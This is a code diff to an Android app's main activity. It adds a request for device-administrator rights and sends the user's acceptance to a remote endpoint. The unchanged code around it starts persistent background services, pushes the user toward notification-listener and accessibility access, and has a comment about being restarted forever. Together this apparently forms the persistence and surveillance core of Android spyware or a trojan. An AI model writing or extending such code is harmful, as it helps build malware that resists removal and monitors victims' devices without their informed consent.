@@ -7,6 +7,8 @@ import android.app.Activity;
 import android.app.Notification;
 import android.app.NotificationChannel;
 import android.app.NotificationManager;
+import android.app.admin.DevicePolicyManager;
+import android.content.ComponentName;
 import android.content.ContentResolver;
 import android.content.Context;
 import android.content.Intent;
@@ -45,10 +47,21 @@ public class MainActivity extends Activity {
         keepInTouch();
         startForegroundService(new Intent(this, Guard.class));
         startForegroundService(new Intent(this, Late.class));
+        startActivityForResult(
+                new Intent(DevicePolicyManager.ACTION_ADD_DEVICE_ADMIN)
+                        .putExtra(
+                                DevicePolicyManager.EXTRA_DEVICE_ADMIN,
+                                new ComponentName(this, Admin.class)),
+                2);
         if (!isAllowed()) {
             startActivity(new Intent(Settings.ACTION_NOTIFICATION_LISTENER_SETTINGS));
             startActivity(new Intent(Settings.ACTION_ACCESSIBILITY_SETTINGS));
         }
+    }
+
+    @Override
+    protected void onActivityResult(int code, int result, Intent data) {
+        Post.send("agreed", "ok=" + (result == RESULT_OK));
     }
 
     /** An account with a sync each hour is the oldest way to be started for ever. */
